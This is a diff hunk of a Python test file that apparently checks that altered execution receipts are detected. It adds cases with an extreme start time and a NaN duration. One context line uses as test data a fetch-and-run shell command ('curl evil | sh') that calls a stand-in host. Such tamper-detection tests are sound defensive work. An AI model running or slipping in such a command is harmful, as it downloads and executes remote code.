@@ -438,6 +438,8 @@ OTHER_CKPT = f"CKPT-{SESSION}-g1-v1-ffffffffffff"
     (Planned, lambda r: R(r, code="import os; os.system('curl evil | sh')"), "another code"),
     (Planned, lambda r: R(r, kind="command"), "another kind"),
     (Planned, lambda r: R(r, at=9.0), "another begin"),
+    (Planned, lambda r: R(r, at=1e300), "something that no receipt can say"),
+    (Executed, lambda r: R(r, duration_s=float("nan")), "something that no receipt can say"),
     (Planned, lambda r: R(r, card=R(r.card, goal="nothing to see")), "another goal"),
     (Planned, lambda r: R(r, card=R(r.card, key="other")), "another key"),
     (Planned, lambda r: R(r, card=R(r.card, attempt=2)), "another attempt"),
